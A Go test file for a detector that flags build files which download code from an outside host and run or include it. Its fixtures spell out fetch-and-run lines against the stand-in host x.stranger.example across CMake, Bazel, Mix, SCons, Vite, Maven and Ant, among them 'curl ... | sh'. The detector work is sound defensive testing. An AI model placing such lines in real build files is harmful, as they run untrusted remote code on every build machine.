package hazard

import "testing"

// TestFetchesAndRuns: a file of a build that fetches something from a stranger and runs it, or takes it in, asks when
// the build runs; what it fetches to look at, or from where everybody takes it, does not.
func TestFetchesAndRuns(t *testing.T) {
	for _, c := range []struct {
		name, text string
		asks       bool
	}{
		{"CMakeLists.txt", "project(a C)\nfile(DOWNLOAD https://x.stranger.example/s setup.sh)\nexecute_process(COMMAND sh setup.sh)\n", true},
		{"CMakeLists.txt", "project(a C)\nfile(DOWNLOAD https://x.stranger.example/setup ${CMAKE_BINARY_DIR}/setup)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup)\n", true},
		{"CMakeLists.txt", "file(DOWNLOAD https://x.stranger.example/x.cmake ${CMAKE_BINARY_DIR}/x.cmake)\ninclude(${CMAKE_BINARY_DIR}/x.cmake)\n", true},
		{"CMakeLists.txt", "set(U https://x.stranger.example/x.cmake)\nset(F ${CMAKE_BINARY_DIR}/x.cmake)\nfile(DOWNLOAD ${U} ${F} EXPECTED_HASH SHA256=aa)\ninclude(${F})\n", true},
		{"deps.cmake", "file(DOWNLOAD \"https://x.stranger.example/t.tgz\" \"t.tgz\" SHOW_PROGRESS)\nexecute_process(\n  COMMAND bash -c \"tar xf t.tgz\" )\nexecute_process(COMMAND sh ./t.tgz)\n", true},
		{"defs.bzl", "def _i(ctx):\n    ctx.download('https://x.stranger.example/s', 's', executable=True)\n    ctx.execute(['./s'])\nr = repository_rule(implementation=_i)\n", true},
		{"defs.bzl", "def _i(ctx):\n    ctx.download(url = 'https://x.stranger.example/s', output = 'tool/s', executable = True)\n    ctx.execute([ctx.path('tool/s'), '--init'])\n", true},
		{"mix.exs", "{:ok, {_, _, b}} = :httpc.request(~c\"https://x.stranger.example/a.exs\")\nCode.eval_string(b)\ndefmodule A.MixProject do\n use Mix.Project\nend\n", true},
		{"SConstruct", "import urllib.request\nexec(urllib.request.urlopen('https://x.stranger.example/s.py').read())\n", true},
		{"vite.config.ts", "const c = await (await fetch('https://x.stranger.example/v.js')).text();\nawait import('data:text/javascript,' + encodeURIComponent(c));\nexport default {}\n", true},
		{"pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><goals><goal>exec</goal></goals><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl -s https://x.stranger.example/s | sh</argument></arguments></configuration></execution></executions></plugin></plugins></build></project>\n", true},
		{"build.xml", "<project><target name=\"t\">\n<exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"curl -s https://x.stranger.example/s | sh\"/></exec>\n</target></project>\n", true},

		{"CMakeLists.txt", "file(DOWNLOAD https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.2/CPM.cmake ${CMAKE_CURRENT_BINARY_DIR}/cmake/CPM.cmake EXPECTED_HASH SHA256=c8cd)\ninclude(${CMAKE_CURRENT_BINARY_DIR}/cmake/CPM.cmake)\n", false},
		{"CMakeLists.txt", "file(DOWNLOAD https://x.stranger.example/words.txt words.txt)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE R)\ninclude(CTest)\n", false},
		{"CMakeLists.txt", "project(a C)\ninclude(cmake/warnings.cmake)\nexecute_process(COMMAND ${Python_EXECUTABLE} gen.py)\nadd_executable(a main.c)\n", false},
		{"defs.bzl", "def _i(ctx):\n    ctx.download_and_extract('https://github.com/google/re2/archive/1.tar.gz', sha256 = 'aa')\n    ctx.execute(['patch', '-p1'])\n", false},
		{"mix.exs", "defmodule A.MixProject do\n use Mix.Project\n @source_url \"https://github.com/acme/a\"\n def project, do: [app: :a, source_url: @source_url]\nend\n", false},
		{"SConstruct", "env = Environment()\nenv.Program('a', ['a.c'])\n", false},
		{"vite.config.ts", "import { defineConfig } from 'vite'\nexport default defineConfig({ server: { proxy: { '/api': 'https://api.acme.example' } } })\n", false},
		{"pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>npm</executable><arguments><argument>run</argument><argument>build</argument></arguments></configuration></plugin></plugins></build></project>\n", false},
		{"build.xml", "<project><exec executable=\"git\"><arg line=\"rev-parse HEAD\"/></exec></project>\n", false},
	} {
		does, _ := Default().RunsFile(c.name, c.text, nil)
		if got := graveness(withoutNotes(does)) >= asksFrom; got != c.asks {
			t.Errorf("%s: want asked %v: %q: %+v", c.name, c.asks, c.text, does)
		}
	}
}
